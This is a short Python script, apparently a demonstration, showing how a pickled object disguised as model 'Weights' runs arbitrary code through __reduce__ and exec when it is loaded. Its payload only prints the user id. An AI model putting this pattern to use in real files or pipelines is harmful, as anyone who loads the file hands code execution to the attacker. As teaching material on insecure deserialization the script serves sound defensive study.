import pickle
import pickletools


# #region attack
class Weights:
    def __reduce__(self):
        # What a pickle says: call this function with these arguments.
        order = "print('running as user', __import__('os').getuid())"
        return exec, (order,)


stored = pickle.dumps(Weights(), protocol=0)
pickletools.dis(stored)
model = pickle.loads(stored)
print("model:", model)
# #endregion attack
